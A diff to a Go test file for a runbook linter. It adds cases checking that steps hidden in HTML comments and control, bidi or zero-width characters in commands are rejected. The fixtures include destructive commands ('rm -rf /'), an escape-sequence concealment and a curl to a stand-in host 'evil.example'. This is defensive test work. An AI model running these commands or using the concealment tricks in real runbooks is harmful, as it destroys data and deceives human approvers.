@@ -67,6 +67,20 @@ func TestAuthoringMistakes(t *testing.T) {
 		{"safe args missing", withSafe("pause()", "revokeRole(bytes32,address)"), []string{"t.md:11: safe.args has 0 value(s) but revokeRole(bytes32,address) takes 2"}},
 		{"safe args too many", withSafe("function: \"pause()\"", "function: \"pause()\"\n  args: [\"{{v}}\"]"), []string{"t.md:16: safe.args has 1 value(s) but pause() takes 0"}},
 		{"safe arg of the wrong type", withSafe("function: \"pause()\"", "function: \"setLimit(uint8)\"\n  args: [\"300\"]"), []string{"t.md:16: safe.args:"}},
+
+		// A step disabled with an HTML comment: hidden in every rendering, still proposable.
+		{"step in a comment", runbook(okFront, okBody+"<!--\n2. Wipe (disabled)\n   ```sh\n   rm -rf /srv/{{v}}\n   ```\n-->\n"),
+			[]string{"t.md:17: a step or code block inside the HTML comment opened at line 16", "delete it"}},
+		{"code block in a comment", runbook(okFront, "1. Do\n<!-- old command:\n   ```sh\n   echo {{v}}\n   ```\n-->\n"),
+			[]string{"t.md:14: a step or code block inside the HTML comment opened at line 13"}},
+
+		// What the approvers see must be what runs.
+		{"carriage return mid-command", withCommand("rm -rf /srv/{{v}}\r echo {{v}}"), []string{"t.md:14: step 1: the command holds U+000D at byte 17, a control character", "retype it"}},
+		{"escape sequence", withCommand("echo {{v}} \x1b[8m; rm -rf /"), []string{"U+001B", "a control character"}},
+		{"bidi override", withCommand("echo {{v}} \u202e/ fr- mr"), []string{"U+202E", "invisible formatting character"}},
+		{"zero-width space", withCommand("curl https://evil\u200b.example/{{v}}"), []string{"U+200B"}},
+		{"no-break space", withCommand("ssh\u00a0{{v}} uptime"), []string{"U+00A0", "does not split words on"}},
+		{"invalid UTF-8", withCommand("echo {{v}} \xff"), []string{"not valid UTF-8"}},
 	}
 	for _, tc := range tests {
 		t.Run(tc.name, func(t *testing.T) {
@@ -101,6 +115,9 @@ func TestAuthoringStillAccepted(t *testing.T) {
 		"alternation":             withPattern(`'^([a-z]+|https?://[A-Za-z0-9.:/_-]+)$'`),
 		"space but no newline":    withPattern(`'^[a-z ]+$'`),
 		"dot without (?s)":        withPattern(`'^x.y$'`),
+		"closed comments":         runbook(okFront, "<!-- a note -->\n1. Do <!-- inline -->\n<!--\nreviewed by bob\n-->\n   ```sh\n   echo {{v}}\t# tab ok\n   ```\n"),
+		"comment in a command":    withCommand("echo {{v}} '<!--'"),
+		"unicode in a command":    withCommand("printf 'café %s\\n' {{v}}"),
 		"param only in safe":      runbook(safeFront, "1. Print\n   ```sh\n   cast send {{target}} 'pause()'\n   ```\n"),
 		"safe fixed values ok":    runbook(okFront+"safe:\n  chain_id: 1\n  address: 0x5aFE3855358E112B5647B952709E6165e1c1eEEe\n  to: \"{{v}}\"\n  function: \"setLimit(uint8)\"\n  args: [\"200\"]\n  value: \"0\"\n", okBody),
 		"alias of a list (no <<)": runbook(strings.Replace(okFront, "approvers: [containment]", "approvers: &a [containment]", 1)+"severity: *a\n", okBody),
